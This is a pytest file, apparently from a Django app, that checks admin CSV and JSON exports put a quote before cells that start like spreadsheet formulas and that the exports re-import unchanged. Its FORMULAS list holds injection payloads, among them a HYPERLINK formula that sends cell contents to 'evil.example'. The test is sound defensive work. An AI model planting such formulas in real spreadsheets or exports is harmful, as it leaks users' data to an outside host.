"""Admin exports never hand a spreadsheet a formula, and re-import to the same words."""

import csv
import io
import json

import pytest
import tablib

from issues.models import Source, Statement
from issues.resources import StatementResource
from rounds.resources import SourceResource
from tests.admin.test_export import CSV, JSON, export
from tests.factories import SourceFactory, StatementFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "'=already quoted",
    "''=twice",
]
PLAIN = ["plain words", "'tis the season", "it's fine"]


@pytest.fixture
def logged_in(client, editor):
    client.force_login(editor)
    return client


@pytest.mark.parametrize("file_format", [CSV, JSON])
def test_statement_cells_starting_like_a_formula_are_exported_behind_a_quote(logged_in, file_format):
    for text in FORMULAS + PLAIN:
        StatementFactory(text=text, context=text)
    body = export(logged_in, "statement", file_format).content.decode()
    rows = list(csv.DictReader(io.StringIO(body))) if file_format == CSV else json.loads(body)
    texts = {row["text"] for row in rows}
    assert texts == {"'" + text for text in FORMULAS} | set(PLAIN)
    assert {row["context"] for row in rows} == texts


def test_source_cells_starting_like_a_formula_are_exported_behind_a_quote(logged_in):
    SourceFactory(slug="evil", title="=HYPERLINK(1)", notes="@cmd", outlet="-Wire")
    rows = list(csv.DictReader(io.StringIO(export(logged_in, "source", CSV).content.decode())))
    [row] = rows
    assert (row["title"], row["notes"], row["outlet"]) == ("'=HYPERLINK(1)", "'@cmd", "'-Wire")


def test_an_export_with_formulas_imports_back_to_the_same_text():
    for text in FORMULAS + PLAIN:
        StatementFactory(text=text, context=text)
    SourceFactory(slug="evil", title="=HYPERLINK(1)", notes="'=x")
    before = list(Statement.objects.order_by("pk").values("pk", "text", "context"))
    history_before = Statement.history.count()

    for resource in (SourceResource(), StatementResource()):
        exported = resource.export().csv
        result = resource.import_data(tablib.Dataset().load(exported, format="csv"), dry_run=False)
        assert not result.has_errors() and not result.has_validation_errors()

    assert list(Statement.objects.order_by("pk").values("pk", "text", "context")) == before
    assert Statement.history.count() == history_before  # nothing changed, so nothing was saved
    source = Source.objects.get(slug="evil")
    assert (source.title, source.notes) == ("=HYPERLINK(1)", "'=x")
